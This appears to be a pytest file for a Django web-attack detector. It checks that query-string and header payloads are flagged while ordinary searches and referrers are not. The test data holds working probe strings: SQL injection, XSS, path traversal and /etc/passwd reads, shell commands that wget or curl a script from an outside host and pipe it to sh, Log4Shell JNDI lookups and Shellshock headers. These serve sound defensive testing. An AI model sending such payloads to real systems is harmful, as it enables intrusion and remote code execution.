"""Attack payloads in the query string (``detection/payloads.py``): what a scanner's probe carries, written by hand
after the OWASP CRS request rules (930 LFI, 931 RFI, 932 RCE, 933 PHP, 941 XSS, 942 SQLi, 944 Java) and CrowdSec's
http-sqli/xss/path-traversal-probing scenarios, against what people type into a search box or put in a link.

The request log keeps the query string only when it carries a payload, as the log parsers do, so the hourly task
sees what a replay sees (the family samples also run through both in ``test_replay_equivalence``)."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from nexus_backend.tracking import flusher
from nexus_backend.tracking.detection.parsers import parse_line
from nexus_backend.tracking.detection.payloads import header_payload, payload_family, target_path
from nexus_backend.tracking.detection.replay import replay_file
from nexus_backend.tracking.detection.services import detect_window
from nexus_backend.tracking.models import RequestLog
from nexus_backend.tracking.recorder import RECORDER

PAYLOADS = [
    ("sqli", "/item?id=1%27%20union%20select%201,2,3--"),
    ("sqli", "/item?id=-1+UNION/**/ALL/**/SELECT+user(),2"),
    ("sqli", "/x?id=1' or '1'='1"),
    ("sqli", '/x?user=admin"+or+"a"="a'),
    ("sqli", "/x?id=1%20AND%201=1"),
    ("sqli", "/p?id=1);waitfor delay '0:0:5'--"),
    ("sqli", "/?id=1 and sleep(5)"),
    ("sqli", "/?id=1+and+extractvalue(1,concat(0x7e,version()))"),
    ("sqli", "/?cat=1;drop table users"),
    ("sqli", "/?x=1%27%3B+drop+table+users--"),
    ("xss", "/?s=<script>alert(1)</script>"),
    ("xss", "/search?q=%22%3E%3Csvg/onload=alert(1)%3E"),
    ("xss", "/?name=<img src=x onerror=prompt(1)>"),
    ("xss", "/?redirect=javascript:alert(document.cookie)"),
    ("traversal", "/?file=../../etc/passwd"),
    ("traversal", "/?page=....//....//etc/passwd"),
    ("traversal", "/..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal", "/a?x=%252e%252e%252fetc"),
    ("traversal", "/?template=..%c0%af..%c0%afetc/hosts"),
    ("traversal", "/index.php?page=http://198.51.100.7/shell.txt?"),
    ("traversal", "/?url=file:///etc/hosts"),
    ("shell", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/bins.sh;chmod+777+bins.sh"),
    ("shell", "/ping.php?cmd=ls;id"),
    ("shell", "/?host=127.0.0.1|whoami"),
    ("shell", "/?q=$(curl+http://198.51.100.7/x|sh)"),
    ("shell", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/m"),
    ("php", "/index.php?page=php://input"),
    ("php", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
    ("php", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"),
    ("php", "/?XDEBUG_SESSION_START=phpstorm"),
    ("php", "/?a=<?php echo md5(1);?>"),
    ("java", "/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D"),
    ("java", "/?x=${${lower:j}ndi:ldap://198.51.100.7/a}"),
    ("java", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ("java", "/?name={{7*7}}"),
]

BENIGN = [
    "/search?q=o%27brien%27s+pub",
    "/search?q=select+a+union+rep",
    "/search?q=%22best+pizza%22+or+pasta",
    "/search?q=don%27t+or+won%27t",
    "/search?q=it%27s+5+o%27clock",
    "/?s=mom+and+dad",
    "/search?q=a+%3C+b+and+c+%3E+d",
    "/search?q=%3C3+love",
    "/search?q=rock+%26+roll",
    "/search?q=what+is+1%2B1%3D2",
    "/search?q=Tom+%26+Jerry%3B+season+1",
    "/search?q=learn+javascript:+the+good+parts",
    "/search?q=sleep+apnea+(adults)",
    "/search?q=drop+shipping;+update+2024",
    "/?q=cd+player+rm+50",
    "/p?q=C%3A%5CUsers",
    "/?utm_source=news&utm_medium=email&utm_campaign=spring",
    "/out?url=https%3A%2F%2Fexample.com%2Fpage%3Fa%3D1",
    "/login/?next=/admin/polls/",
    "/?ref=../about",
    "/api/polls/?page=2&ordering=-created",
    "/blog/2024/01/union-select-committee/",
    "/static/app.js?v=3f2a9c",
    "/?id=5&q=%20x",  # "&id" is a parameter, not a command after a separator
    "/posts/?page=2&id=3&s=%22x%22",
    "/search/?q=%22cats%22+and+dogs+%3E+birds",
    "/search/?q=best+of+2023%3B+update",
    "/search/?q=top+(5)+--+great",
    "/search/?q=food%3Bshopping",
    "/search/?q=24%22+monitor+--+cheap",
    "/?sort=id&dir=desc&q=%27",
]


@pytest.mark.parametrize(("family", "target"), PAYLOADS, ids=[t for _, t in PAYLOADS])
def test_payloads_are_recognised_and_keep_their_query(family, target):
    assert payload_family(target) == family
    assert target_path(target) == target  # kept whole: the evidence shows the request


@pytest.mark.parametrize("target", BENIGN)
def test_searches_and_links_are_not_payloads(target):
    assert payload_family(target) == ""
    assert target_path(target) == target.partition("?")[0]


def test_the_parsers_keep_the_query_of_a_payload_only():
    def path(request):
        rec = parse_line("combined", f'203.0.113.1 - - [03/Mar/2025:10:00:00 +0000] "{request}" 200 1 "-" "x"')
        return rec.path

    assert path("GET /posts/?page=2 HTTP/1.1") == "/posts/"
    assert path("GET /posts/?id=1'+or+'1'='1 HTTP/1.1") == "/posts/?id=1'+or+'1'='1"


@pytest.mark.django_db
def test_the_request_log_keeps_a_payload_and_the_hourly_task_flags_it():
    client = APIClient()
    client.get("/api/polls/?page=2", REMOTE_ADDR="203.0.113.7", HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64)")
    client.get("/api/polls/?search=1%27%20union%20select%20password%20from%20auth_user--", REMOTE_ADDR="203.0.113.8",
               HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64)")  # fmt: skip
    RECORDER.flush_buffer()
    flusher.flush()
    paths = dict(RequestLog.objects.values_list("ip_address", "path"))
    assert paths == {
        "203.0.113.7": "/api/polls/",
        "203.0.113.8": "/api/polls/?search=1%27%20union%20select%20password%20from%20auth_user--",
    }
    now = timezone.now()
    result = detect_window(start=now - timedelta(hours=1), end=now + timedelta(minutes=1), auto_block=False)
    assert result.flagged_ips == ["203.0.113.8"]


# What scanners spray into every header, the Referer included (CRS 944150, 932170; Zeek's shellshock signature),
# against what browsers and search engines put there.
HEADER_PAYLOADS = [
    ("java", "${jndi:ldap://198.51.100.3:1389/Exploit}"),
    ("java", "${${lower:j}ndi:${lower:l}dap://x.example/a}"),
    ("java", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/b}"),
    ("java", "https://example.org/%24%7Bjndi:dns://x.example/c%7D"),
    ("shell", "() { :; }; echo; /bin/bash -c 'wget http://198.51.100.3/x.sh'"),
    ("shell", "() { _; } >_[$($())] { echo hi; }"),
    ("shell", "%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
]
HEADER_BENIGN = [
    "https://www.google.com/",
    "https://duckduckgo.com/?q=javascript+function%28%29+%7B+%7D",
    "https://stackoverflow.com/questions/1/what-does-function-()-{-}-mean",
    "https://example.org/docs/${version}/intro",  # a template left unrendered in a link: no lookup
    "https://example.org/search?q=%24%7Bjava.home%7D",
    "android-app://com.google.android.gm/",
]


@pytest.mark.parametrize(("family", "value"), HEADER_PAYLOADS)
def test_header_payloads_are_recognised(family, value):
    assert header_payload(value) == family


@pytest.mark.parametrize("value", HEADER_BENIGN)
def test_referrers_of_people_are_not_header_payloads(value):
    assert header_payload(value) == ""


@pytest.mark.django_db
def test_a_payload_in_the_referer_alone_is_flagged_by_the_replay_and_the_hourly_task(tmp_path):
    """A Log4Shell spray that forges a browser and puts ``${jndi:...}`` only in the Referer; beside it, a reader
    whose search referrer carries "function() {". The replay and the hourly task flag the first, not the second."""
    agent = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
    )
    spray, reader = "203.0.113.44", "198.51.100.45"
    jndi = "${jndi:ldap://198.51.100.3:1389/a}"
    search = "https://duckduckgo.com/?q=function%28%29%20%7B%20%7D"
    now = timezone.now().replace(microsecond=0) - timedelta(minutes=10)
    stamp = now.strftime("%d/%b/%Y:%H:%M:%S +0000")
    log = tmp_path / "access.log"
    log.write_text(
        f'{spray} - - [{stamp}] "GET / HTTP/1.1" 200 512 "{jndi}" "{agent}"\n'
        f'{reader} - - [{stamp}] "GET / HTTP/1.1" 200 512 "{search}" "{agent}"\n'
    )
    result = replay_file(log)
    assert list(result.flagged) == [spray]
    assert result.flagged[spray].rules == ["payload"]
    assert any(jndi in reason for reason in result.flagged[spray].reasons)  # the evidence shows the request

    for ip, referrer in ((spray, jndi), (reader, search)):
        APIClient().get("/api/polls/", REMOTE_ADDR=ip, HTTP_USER_AGENT=agent, HTTP_REFERER=referrer)
    RECORDER.flush_buffer()
    flusher.flush()
    found = detect_window(start=timezone.now() - timedelta(hours=1), end=timezone.now() + timedelta(minutes=1),
                          auto_block=False)  # fmt: skip
    assert found.flagged_ips == [spray]
